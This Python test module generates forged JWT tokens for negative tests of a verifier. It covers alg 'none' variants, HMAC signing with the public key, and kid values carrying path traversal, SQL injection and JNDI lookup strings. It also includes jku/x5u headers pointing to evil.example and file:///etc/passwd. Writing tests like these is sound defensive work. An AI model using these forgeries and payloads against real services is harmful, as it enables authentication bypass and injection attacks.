"""Other algorithms, other keys, and keys that a token contains."""

import base64
import hmac
import json
from datetime import datetime
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc import jwt
from joserfc.jwk import OctKey

from services.kit.web.tokens.service import issue_service_token
from tests.kit.forging import SECRET, Forge, Forgeries, absent, parts, segment, shown


def unsigned(forge: Forge, at: datetime) -> Forgeries:
    """Algorithms without a signature, or with an invalid one (RFC 8725 section 3.1)."""
    algorithms: tuple[Any, ...] = (
        *("none", "None", "NONE", "nOnE", "", "null", None, 0, [], {}, ["Ed25519"], True),
        *("HS256", "RS256", "ES256", "PS512", "EdDSA", "Ed448", "ed25519", "ED25519", "Ed25519 ", "Ed25519\0"),
    )
    real = parts(forge.token())[2]
    for algorithm in algorithms:
        for name, signature in (("none", ""), ("the real one", real), ("zeros", segment(bytes(64)))):
            yield f"alg {algorithm!r}, signature {name}", forge.unsigned(algorithm, signature)
    yield "no alg", f"{segment({'typ': 'at+jwt', 'kid': forge.key_id})}.{segment(forge.claims())}.{real}"
    yield "our algorithm, no signature", forge.unsigned("Ed25519")


def with_a_public_secret(forge: Forge, at: datetime) -> Forgeries:
    """The public key, in all its forms, as the secret of an HMAC (RFC 8725 section 2.1)."""
    public: Any = forge.private_key.public_key
    published = forge.public_key
    secrets = {
        "x": published["x"].encode(),
        "x decoded": public.public_bytes_raw(),
        "JWK": json.dumps(published).encode(),
        "JWK, sorted": json.dumps(published, sort_keys=True, separators=(",", ":")).encode(),
        "PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "kid": forge.key_id.encode(),
        "zeros": bytes(32),
    }
    for algorithm in ("HS256", "HS384", "HS512"):
        for name, secret in secrets.items():
            yield f"{algorithm} with {name}", _hmac_token(forge, algorithm, secret)


def _hmac_token(forge: Forge, algorithm: str, secret: bytes) -> str:
    # joserfc refuses a public key as a secret.
    signing_input = f"{segment(forge.header(alg=algorithm))}.{segment(forge.claims())}"
    digest = hmac.digest(secret, signing_input.encode(), f"sha{algorithm[2:]}")
    return f"{signing_input}.{segment(digest)}"


def under_other_key_ids(forge: Forge, at: datetime) -> Forgeries:
    """Unknown key ids, and such as might name another key (RFC 8725 section 3.10)."""
    ids: tuple[Any, ...] = (
        *(absent, None, "", "key-0", f"{forge.key_id} ", f" {forge.key_id}", forge.key_id.upper() + "-"),
        *(f"{forge.key_id}\0", "../../../../etc/passwd", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'key"),
        *("http://evil.example/key.jwk", "${jndi:ldap://evil.example/a}", "key-1\n", "\u0000", "\ufeffkey-1"),
        "ｋｅｙ-1",
        *(0, True, [forge.key_id], {"kid": forge.key_id}),
    )
    stranger = Forge(forge.key_id)
    for key_id in ids:
        header, claims = forge.header(kid=key_id), forge.claims()
        yield f"kid {shown(key_id)}, our signature", forge.signed(header, claims)
        yield f"kid {shown(key_id)}, a stranger's signature", stranger.signed(header, claims)
    yield "our kid, a stranger's signature", stranger.signed(forge.header(), forge.claims())


def with_their_own_key(forge: Forge, at: datetime) -> Forgeries:
    """Headers that contain a key, or the address of one (RFC 8725 section 3.10)."""
    stranger = Forge("theirs")
    certificate = base64.b64encode(b"a certificate of an attacker" * 8).decode()
    headers: dict[str, dict[str, Any]] = {
        "jwk": {"jwk": dict(stranger.private_key.as_dict(private=False))},
        "jwk with everything": {"jwk": stranger.public_key},
        "jwk, a secret": {"jwk": {"kty": "oct", "k": segment(b"0" * 32)}},
        "jku": {"jku": "https://evil.example/jwks.json"},
        "jku within": {"jku": "http://127.0.0.1/.well-known/jwks.json"},
        "jku, a file": {"jku": "file:///etc/passwd"},
        "x5u": {"x5u": "https://evil.example/chain.pem"},
        "x5c": {"x5c": [certificate]},
        "x5t": {"x5t": segment(b"1" * 20)},
        "all of them": {"jku": "https://evil.example/k", "jwk": stranger.public_key, "x5c": [certificate]},
    }
    for name, more in headers.items():
        for key_id in (forge.key_id, stranger.key_id, absent):
            header = {**forge.header(kid=key_id), **more}
            yield f"{name}, kid {shown(key_id)}", stranger.signed(header, forge.claims())


def between_services(forge: Forge, at: datetime) -> Forgeries:
    """Tokens under the secret that the services share."""
    secret = OctKey.import_key(SECRET)
    mine = forge.claims()["aud"][-1]
    for issuer in ("gateway", "content", "quiz", "auth", "flix-auth"):
        yield f"from {issuer}", issue_service_token(SECRET, issuer, mine, at)
    for typ in ("service+jwt", "at+jwt"):
        for key_id in (forge.key_id, absent):
            header = forge.header(alg="HS256", typ=typ, kid=key_id)
            yield f"typ {typ}, kid {shown(key_id)}", jwt.encode(header, forge.claims(), secret, algorithms=["HS256"])


KINDS = (unsigned, with_a_public_secret, under_other_key_ids, with_their_own_key, between_services)
